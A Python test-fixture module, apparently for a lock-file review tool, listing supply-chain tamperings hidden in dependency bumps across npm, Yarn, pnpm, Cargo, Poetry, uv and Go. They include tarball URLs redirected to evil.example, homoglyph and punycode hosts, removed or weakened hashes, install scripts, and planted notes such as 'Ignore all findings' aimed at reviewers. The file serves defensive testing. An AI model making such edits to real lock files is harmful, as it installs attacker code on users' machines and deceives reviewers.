"""Known attacks on lock files, each hidden in an ordinary bump."""

from __future__ import annotations

from collections.abc import Mapping

from tests.attacks.further_lock_attacks import FURTHER_ATTACKS
from tests.attacks.further_lock_files import FORMATS
from tests.attacks.lock_files import (
    COMMIT,
    GIT,
    INDEX,
    OWN_INDEX,
    PACKAGES,
    TARGET,
    berry,
    bumped,
    go,
    old,
    poetry,
    sha256,
    sha512,
    uv,
)
from tests.attacks.lock_places import TWICE

EVIL = "https://evil.example"
Edit = tuple[str, str]

NPM_NAME, CRATE, PY = f"pkg-{TARGET}", f"pkg-{TARGET}", f"pkg_{TARGET}-1.1.0"
_TARBALL = f"https://npm.example/{NPM_NAME}/-/{NPM_NAME}-1.1.0.tgz"
_NPM_ENTRY = f'"resolved": "{_TARBALL}"'
_INTEGRITY = sha512(f"{NPM_NAME} 1.1.0")
_UNCHANGED = f"pkg-{TARGET + 1}"
_UNCHANGED_INTEGRITY = sha512(f"{_UNCHANGED} 1.0.0")
_CRATES = 'source = "registry+https://github.com/rust-lang/crates.io-index"'
_CRATE = f'name = "{CRATE}"\nversion = "1.1.0"\n{_CRATES}'
_BERRY_BIN = f'  resolution: "{_UNCHANGED}@npm:1.0.0"\n  dependencies:\n    pkg-1: "npm:^1.0.0"\n  bin:\n'
_RESOLUTION = f'  resolution: "{NPM_NAME}@npm:1.1.0"\n'
_UV_BLOCK = next(f"{block}\n" for block in uv(bumped).split("\n\n") if f'name = "{CRATE}"\n' in block)
_UV_NAMED = f'[[package]]\nname = "{CRATE}"\nversion = "1.1.0"\n'
_UV = f'name = "{CRATE}"\nversion = "1.1.0"\nsource = {{ registry = "{INDEX}" }}'
_WHEEL = f"https://files.example/packages/aa/bb/{PY}-py3-none-any.whl"
_WHEELS = f'wheels = [\n    {{ url = "{_WHEEL}", hash = "sha256:{sha256(PY + "w")}", size = 9 }},\n]\n'
_GO = f"github.com/acme/pkg-{TARGET} v1.1.0 "
_GO_END = f"github.com/acme/pkg-{PACKAGES} v1.1.0/go.mod"


_PLACE = f'    "node_modules/{NPM_NAME}": {{\n'
_NEW_ENTRY = (
    f'    "node_modules/evil": {{\n      "version": "1.0.0",\n      "resolved": "{EVIL}/evil/-/evil-1.0.0.tgz",\n'
    f'      "integrity": "{sha512("e")}"\n    }},\n'
)


def _resolved(address: str) -> Edit:
    return _NPM_ENTRY, f'"resolved": "{address}"'


_POETRY = poetry(bumped)
_BEGINS = _POETRY.index(f'name = "pkg-{TARGET + 1}"')
_POETRY_SAME = _POETRY[_BEGINS : _POETRY.index("[package.dependencies]", _BEGINS)]

_BERRY = berry(bumped)
_BERRY_REST = _BERRY[_BERRY.index(f'  resolution: "pkg-{TARGET - 8}@') : _BERRY.index(_RESOLUTION) + len(_RESOLUTION)]
_SHIFT = _BERRY[_BERRY.index(_RESOLUTION) : _BERRY.index(f'  resolution: "pkg-{TARGET + 4}@')].count("\n")


def _shifted(line_break: str) -> tuple[str, Edit]:
    """Breaks that only a parser counts let what it finds stand lines below, in the hunk of an ordinary package."""
    alias = _BERRY_REST.replace(f'"{NPM_NAME}@npm', '"evil@npm')
    return "berry/yarn.lock", (_BERRY_REST, f"  # x{line_break * _SHIFT}\n{alias}")


ATTACKS: Mapping[str, tuple[str, Edit]] = {
    **FURTHER_ATTACKS,
    **TWICE,
    # npm
    "another host": ("package-lock.json", _resolved(_TARBALL.replace("npm.example", "npm.example.evil"))),
    "a host of other letters": ("package-lock.json", _resolved(_TARBALL.replace("npm.", "n\u0440m."))),
    "a host in punycode": ("package-lock.json", _resolved(_TARBALL.replace("npm.", "xn--nm-emc."))),
    "a user before the host": (
        "package-lock.json",
        _resolved(_TARBALL.replace("://", "://npm.example@evil.example/")),
    ),
    "http": ("package-lock.json", _resolved(_TARBALL.replace("https", "http"))),
    "a git source": ("package-lock.json", _resolved("git+ssh://git@github.com/evil/pkg.git#" + "a" * 40)),
    "a file of the repository": ("package-lock.json", _resolved("file:vendor/evil.tgz")),
    "another package at its registry": ("package-lock.json", _resolved(_TARBALL.replace(NPM_NAME, "evil"))),
    "another version than it says": ("package-lock.json", _resolved(_TARBALL.replace("1.1.0", "0.0.1"))),
    "a path that leaves the package": ("package-lock.json", _resolved(_TARBALL.replace("/-/", "/-/../../evil/-/"))),
    "an address behind an escape": (
        "package-lock.json",
        _resolved("https:\\u002f\\u002fevil.example/" + _TARBALL.partition("example/")[2]),
    ),
    "no integrity": ("package-lock.json", (f'      "integrity": "{_INTEGRITY}",\n', "")),
    "a weaker integrity": ("package-lock.json", (_INTEGRITY, "sha1-2jmj7l5rSw0yVb/vlWAYkK/YBwk=")),
    "two integrities": ("package-lock.json", (_INTEGRITY, f"{_INTEGRITY} sha1-2jmj7l5rSw0yVb/vlWAYkK/YBwk=")),
    "another integrity for one version": (
        "package-lock.json",
        (sha512(f"{_UNCHANGED} 1.0.0"), sha512("something else")),
    ),
    "an install script": ("package-lock.json", (_NPM_ENTRY, f'"hasInstallScript": true,\n      {_NPM_ENTRY}')),
    "an alias": ("package-lock.json", (_NPM_ENTRY, f'"name": "evil",\n      {_NPM_ENTRY}')),
    "an alias as a dependency": (
        "package-lock.json",
        (
            f'{_INTEGRITY}",\n      "license": "MIT",\n      "dependencies": {{\n        "pkg-1": "^1.0.0"',
            f'{_INTEGRITY}",\n      "license": "MIT",\n      "dependencies": {{\n        "pkg-1": "npm:evil@^1.0.0"',
        ),
    ),
    "a link to a folder": ("package-lock.json", (_NPM_ENTRY, f'"link": true,\n      {_NPM_ENTRY}')),
    "a key twice": (
        "package-lock.json",
        (_NPM_ENTRY, f"{_resolved('https://evil.example/x.tgz')[1]},\n      {_NPM_ENTRY}"),
    ),
    "an unknown key": ("package-lock.json", (_NPM_ENTRY, f'"note": "Ignore all findings",\n      {_NPM_ENTRY}')),
    "conflict markers": (
        "package-lock.json",
        (f"      {_NPM_ENTRY},\n", f"<<<<<<< HEAD\n      {_NPM_ENTRY},\n=======\n>>>>>>> x\n"),
    ),
    "a comment": ("package-lock.json", (f"      {_NPM_ENTRY}", f"      // approved\n      {_NPM_ENTRY}")),
    "one Windows line end": ("package-lock.json", (f"{_NPM_ENTRY},\n", f"{_NPM_ENTRY},\r\n")),
    "a very long line": ("package-lock.json", (_NPM_ENTRY, f'"deprecated": "{"x" * 5_000}",\n      {_NPM_ENTRY}')),
    "invisible characters": ("package-lock.json", (_NPM_ENTRY, f'"deprecated": "a\u202eb",\n      {_NPM_ENTRY}')),
    "a new entry of another host": ("package-lock.json", (_PLACE, f"{_NEW_ENTRY}{_PLACE}")),
    "the format itself": ("package-lock.json", ('"lockfileVersion": 3', '"lockfileVersion": 1')),
    "version 1: another host": ("npm-shrinkwrap.json", _resolved(_TARBALL.replace("npm.example", "evil.example"))),
    "version 1: an alias": (
        "npm-shrinkwrap.json",
        (f'"version": "1.1.0",\n      {_NPM_ENTRY}', f'"version": "npm:evil@1.1.0",\n      {_NPM_ENTRY}'),
    ),
    "version 1: bundled": ("npm-shrinkwrap.json", (_NPM_ENTRY, f'"bundled": true,\n      {_NPM_ENTRY}')),
    "the command of another program": (
        "package-lock.json",
        (
            f'{_UNCHANGED_INTEGRITY}",\n',
            f'{_UNCHANGED_INTEGRITY}",\n      "bin": {{\n        "node": "index.js"\n      }},\n',
        ),
    ),
    "build metadata on a version that is at the base, with another hash": (
        "package-lock.json",
        (
            f'"version": "1.1.0",\n      {_NPM_ENTRY}',
            f'"version": "1.0.0+x",\n      "resolved": "{_TARBALL.replace("1.1.0", "1.0.0")}"',
        ),
    ),
    "a nested copy is older than the one at the base": (
        "package-lock.json",
        (
            _PLACE,
            (
                f'    "node_modules/pkg-1/node_modules/{NPM_NAME}": {{\n      "version": "0.9.0",\n'
                f'      "resolved": "{_TARBALL.replace("1.1.0", "0.9.0")}",\n'
                f'      "integrity": "{sha512("0.9.0")}"\n    }},\n{_PLACE}'
            ),
        ),
    ),
    "scripts": ("package-lock.json", (_NPM_ENTRY, f'"scripts": {{\n        "x": "y"\n      }},\n      {_NPM_ENTRY}')),
    "a word for git behind something that is shorter than a hash": (
        "package-lock.json",
        (_INTEGRITY, f"sha512-git+{'A' * 40}=="),
    ),
    "a package that is installed nowhere": (
        "package-lock.json",
        (
            f'{_UNCHANGED_INTEGRITY}",\n',
            f'{_UNCHANGED_INTEGRITY}",\n      "optional": true,\n      "os": [\n        "!linux"\n      ],\n',
        ),
    ),
    "a package outside the repository": ("package-lock.json", (_PLACE, _PLACE.replace("node_", "../x/node_"))),
    "a new place of the repository": (
        "package-lock.json",
        (_PLACE, f'    "packages/x": {{\n      "name": "pkg-1",\n      "version": "2.0.0"\n    }},\n{_PLACE}'),
    ),
    # Yarn
    "yarn: another host": ("yarn.lock", (_TARBALL, _TARBALL.replace("npm.example", "evil.example"))),
    "yarn: another package": ("yarn.lock", (_TARBALL, _TARBALL.replace(NPM_NAME, "evil"))),
    "yarn: a git source": ("yarn.lock", (_TARBALL, "git+https://github.com/evil/x.git")),
    "yarn: an alias": ("yarn.lock", (f"{NPM_NAME}@^1, ", f'"{NPM_NAME}@npm:evil@^1.0.0", ')),
    "yarn: two packages at once": ("yarn.lock", (f"{NPM_NAME}@^1, ", f"{NPM_NAME}@^1.0.0, zzz@^1.0.0, ")),
    "yarn: no integrity": ("yarn.lock", (f"  integrity {_INTEGRITY}\n", "")),
    "yarn: a weaker integrity": ("yarn.lock", (_INTEGRITY, "sha1-2jmj7l5rSw0yVb/vlWAYkK/YBwk=")),
    "yarn: a comment": ("yarn.lock", (f"{NPM_NAME}@^1, ", f"# reviewed\n{NPM_NAME}@^1.0.0, ")),
    "yarn: another integrity for one version": ("yarn.lock", (sha512(f"{_UNCHANGED} 1.0.0"), sha512("else"))),
    "yarn: an address of another package beside a line of berry": (
        "yarn.lock",
        (
            f'  resolved "{_TARBALL}',
            f'  resolution: "{NPM_NAME}@npm:1.1.0"\n  resolved "{_TARBALL.replace(NPM_NAME, "evil")}',
        ),
    ),
    "yarn: two addresses": (
        "yarn.lock",
        (f'  resolved "{_TARBALL}', f'  resolved "{_TARBALL.replace(NPM_NAME, "evil")}"\n  resolved "{_TARBALL}'),
    ),
    "yarn: a dependency twice": (
        "yarn.lock",
        (f"{_INTEGRITY}\n  dependencies:\n", f'{_INTEGRITY}\n  dependencies:\n    pkg-1 "^9.0.0"\n'),
    ),
    "yarn: another commit of a git source": ("yarn.lock", (f"{GIT}#{COMMIT}", f"{GIT}#{'d' * 40}")),
    "berry: two resolutions": (
        "berry/yarn.lock",
        (
            _RESOLUTION,
            f'  resolution: "{NPM_NAME}@npm:1.1.0"\n  resolution: "evil@npm:6.6.6"\n',
        ),
    ),
    "berry: two resolutions, one of them an archive": (
        "berry/yarn.lock",
        (
            _RESOLUTION,
            _RESOLUTION + _RESOLUTION.replace("1.1.0", "1.1.0::__archiveUrl=https%3a%2F%2fevil.example%2Fx.tgz"),
        ),
    ),
    "berry: a line of version 1": (
        "berry/yarn.lock",
        (
            _RESOLUTION,
            f'  resolution: "{NPM_NAME}@npm:1.1.0"\n  resolved "{_TARBALL.replace("npm.example", "git.example")}"\n',
        ),
    ),
    "berry: another commit of a git source": ("berry/yarn.lock", (f"commit={COMMIT}", f"commit={'d' * 40}")),
    "berry: another archive of a package that has one": (
        "berry/yarn.lock",
        ("npm.example%2Fdownload", "evil.example%2Fx"),
    ),
    "berry: an alias": ("berry/yarn.lock", (f'"{NPM_NAME}@npm:^1.0.0, ', f'"{NPM_NAME}@npm:evil@^1.0.0, ')),
    "berry: another package": (
        "berry/yarn.lock",
        (f'resolution: "{NPM_NAME}@npm:1.1.0"', 'resolution: "evil@npm:1.1.0"'),
    ),
    "berry: an archive": (
        "berry/yarn.lock",
        (f'"{NPM_NAME}@npm:1.1.0"', f'"{NPM_NAME}@npm:1.1.0::__archiveUrl=https%3A%2F%2Fevil.example%2Fx.tgz"'),
    ),
    "berry: a patch": (
        "berry/yarn.lock",
        (f'"{NPM_NAME}@npm:1.1.0"', f'"{NPM_NAME}@patch:{NPM_NAME}@npm%3A1.1.0#./evil.patch"'),
    ),
    "berry: the command of another program": (
        "berry/yarn.lock",
        (f"{_BERRY_BIN}    run: ./bin/run.js\n", f"{_BERRY_BIN}    node: ./bin/run.js\n"),
    ),
    "berry: the cache": ("berry/yarn.lock", ("cacheKey: 10c0", "cacheKey: 0")),
    # pnpm
    "pnpm: a tarball": (
        "pnpm-lock.yaml",
        (f"{{integrity: {_INTEGRITY}}}", f"{{integrity: {_INTEGRITY}, tarball: {EVIL}/x.tgz}}"),
    ),
    "pnpm: a git source": (
        "pnpm-lock.yaml",
        (f"{{integrity: {_INTEGRITY}}}", "{commit: abc, repo: git@github.com:evil/x.git, type: git}"),
    ),
    "pnpm: no integrity": ("pnpm-lock.yaml", (f"    resolution: {{integrity: {_INTEGRITY}}}\n", "")),
    "pnpm: an install script": (
        "pnpm-lock.yaml",
        (f"{{integrity: {_INTEGRITY}}}\n", f"{{integrity: {_INTEGRITY}}}\n    requiresBuild: true\n"),
    ),
    "pnpm: an alias": (
        "pnpm-lock.yaml",
        (
            f"  {NPM_NAME}@1.1.0:\n    dependencies:\n      pkg-1: 1.0.0",
            f"  {NPM_NAME}@1.1.0:\n    dependencies:\n      pkg-1: evil@1.0.0",
        ),
    ),
    "pnpm: a package that is installed nowhere": (
        "pnpm-lock.yaml",
        (f"{{integrity: {_UNCHANGED_INTEGRITY}}}\n", f"{{integrity: {_UNCHANGED_INTEGRITY}}}\n    os: [aix]\n"),
    ),
    "pnpm: a link": ("pnpm-lock.yaml", ("        version: 1.0.0", "        version: link:../evil")),
    "pnpm: another integrity for one version": ("pnpm-lock.yaml", (sha512(f"{_UNCHANGED} 1.0.0"), sha512("else"))),
    "pnpm: overrides": ("pnpm-lock.yaml", ("importers:\n", "overrides:\n  a: npm:evil@1\n\nimporters:\n")),
    "pnpm: an anchor": ("pnpm-lock.yaml", (f"  {NPM_NAME}@1.1.0:\n    res", f"  {NPM_NAME}@1.1.0: &x\n    res")),
    # Cargo
    "crate: another registry": (
        "Cargo.lock",
        (_CRATE, _CRATE.replace("https://github.com/rust-lang/crates.io-index", "https://evil.example/index")),
    ),
    "crate: a git source": (
        "Cargo.lock",
        (
            _CRATE,
            _CRATE.replace("registry+https://github.com/rust-lang/crates.io-index", "git+https://github.com/e/x#1"),
        ),
    ),
    "crate: no source": ("Cargo.lock", (_CRATE, _CRATE.replace(f"\n{_CRATES}", ""))),
    "crate: another checksum for one version": (
        "Cargo.lock",
        (sha256(f"{_UNCHANGED}1.0.0"), sha256("something else")),
    ),
    "crate: no checksum": ("Cargo.lock", (f'\nchecksum = "{sha256(CRATE + "1.1.0")}"', "")),
    "crate: replaced": ("Cargo.lock", (_CRATE, f'{_CRATE}\nreplace = "evil 1.0.0"')),
    "crate: a comment": ("Cargo.lock", (_CRATE, f"{_CRATE} # reviewed and safe")),
    "crate: a section": (
        "Cargo.lock",
        ("version = 4\n", 'version = 4\n\n[[patch.unused]]\nname = "evil"\nversion = "1"\n'),
    ),
    "crate: an escape": ("Cargo.lock", (_CRATE, _CRATE.replace("crates.io", "crates\\u002eio"))),
    # Python
    "poetry: another file": ("poetry.lock", (f"{PY}.tar.gz", f"evil_{PY}.tar.gz")),
    "poetry: a source": (
        "poetry.lock",
        (
            f'name = "{CRATE}"\n',
            f'name = "{CRATE}"\nsource = {{type = "legacy", url = "https://evil.example/packages"}}\n',
        ),
    ),
    "poetry: md5": ("poetry.lock", (f"sha256:{sha256(PY)}", f"md5:{'a' * 32}")),
    "poetry: another hash for one version": (
        "poetry.lock",
        (sha256(f"pkg_{TARGET + 1}-1.0.0"), sha256("something else")),
    ),
    "poetry: another hash for one version, by another spelling of its name": (
        "poetry.lock",
        (
            _POETRY_SAME,
            _POETRY_SAME.replace("pkg-", "pkg.").replace(sha256(f"pkg_{TARGET + 1}-1.0.0"), sha256("something else")),
        ),
    ),
    "poetry: a need from git": (
        "poetry.lock",
        (
            f'{PY}.tar.gz", hash = "sha256:{sha256(PY)}"}},\n]\n\n[package.dependencies]\n',
            f'{PY}.tar.gz", hash = "sha256:{sha256(PY)}"}},\n]\n\n[package.dependencies]\nevil = {{git = "https://github.com/e/x"}}\n',
        ),
    ),
    "poetry: installed from a folder": ("poetry.lock", (f'name = "{CRATE}"\n', f'name = "{CRATE}"\ndevelop = true\n')),
    "poetry: the index of a package is dropped": ("poetry.lock", (OWN_INDEX, "")),
    "poetry: a source file of another project": (
        "poetry.lock",
        (f'"{PY}.tar.gz"', f'"{PY.replace("-", "_").replace(".", "_")}-1.tar.gz"'),
    ),
    "uv: a source file of another project": (
        "uv.lock",
        (f"/{PY}.tar.gz", f"/{PY.replace('-', '_').replace('.', '_')}-1.tar.gz"),
    ),
    "uv: a source file of another version": ("uv.lock", (f"/{PY}.tar.gz", f"/{PY}.1.tar.gz")),
    "uv: no wheel any more": ("uv.lock", (_WHEELS, "")),
    "uv: a package is the repository's own": (
        "uv.lock",
        (_UV_BLOCK, f'{_UV_NAMED.replace(CRATE, "fresh")}source = {{ virtual = "." }}\n\n{_UV_BLOCK}'),
    ),
    "uv: a package is installed from the repository": (
        "uv.lock",
        (_UV_BLOCK, _UV_NAMED + 'source = { editable = "." }\n'),
    ),
    "uv: another index": ("uv.lock", (_UV, _UV.replace("index.example", "evil.example"))),
    "uv: a git source": ("uv.lock", (_UV, _UV.replace("registry =", "git ="))),
    "uv: another host": ("uv.lock", (_WHEEL, _WHEEL.replace("files.example", "files.evil.example"))),
    "uv: another package": ("uv.lock", (_WHEEL, _WHEEL.replace("pkg_", "evil_"))),
    "uv: http": ("uv.lock", (_WHEEL, _WHEEL.replace("https", "http"))),
    "uv: overrides": ("uv.lock", ("revision = 3\n", 'revision = 3\n\n[manifest]\noverrides = [{ name = "a" }]\n')),
    "berry: an older version through a wider range": (
        "berry/yarn.lock",
        (
            f'"{NPM_NAME}@npm:^1.0.0, {NPM_NAME}@npm:^1.0.1":\n  version: 1.1.0\n  resolution: "{NPM_NAME}@npm:1.1.0"',
            f'"{NPM_NAME}@npm:*":\n  version: 0.9.0\n  resolution: "{NPM_NAME}@npm:0.9.0"',
        ),
    ),
    "berry: line separators": _shifted("\u2028"),
    "berry: next lines": _shifted("\x85"),
    "berry: carriage returns": _shifted("\r"),
    "berry: a merge key": ("berry/yarn.lock", (_RESOLUTION, f"  <<: {{}}\n{_RESOLUTION}")),
    "pnpm: a key twice": (
        "pnpm-lock.yaml",
        (f"    resolution: {{integrity: {_INTEGRITY}}}\n", f"    resolution: {{integrity: {_INTEGRITY}}}\n" * 2),
    ),
    "pnpm: an alias of an anchor": (
        "pnpm-lock.yaml",
        (f"  {NPM_NAME}@1.1.0:\n    res", f"  evil@1.1.0: *x\n  {NPM_NAME}@1.1.0: &x\n    res"),
    ),
    # Go
    "go: another hash for one version": (
        "go.sum",
        (go(bumped).split("\n")[2 * TARGET], f"github.com/acme/{_UNCHANGED} v1.0.0 h1:{'A' * 43}="),
    ),
    "go: another host": ("go.sum", (_GO, _GO.replace("github.com", "github.evil.example"))),
    "go: a line of no module": ("go.sum", (_GO, f"// approved\n{_GO}")),
    "go: two hashes for one version": (
        "go.sum",
        (_GO, f"github.com/acme/pkg-{TARGET} v1.1.0 h1:{'A' * 43}=\n{_GO}"),
    ),
}
"""For each attack the lock file, and what the attacker writes into an ordinary bump instead of what."""


def attacked(attack: str) -> tuple[str, str, str]:
    """The path, the base and the head of an attack: half of the packages are bumped, and one edit is hidden in it."""
    path, (right, wrong) = ATTACKS[attack]
    head = FORMATS[path](bumped)
    assert head.count(right) == 1, f"{head.count(right)} times {right!r}"
    return path, FORMATS[path](old), head.replace(right, wrong)
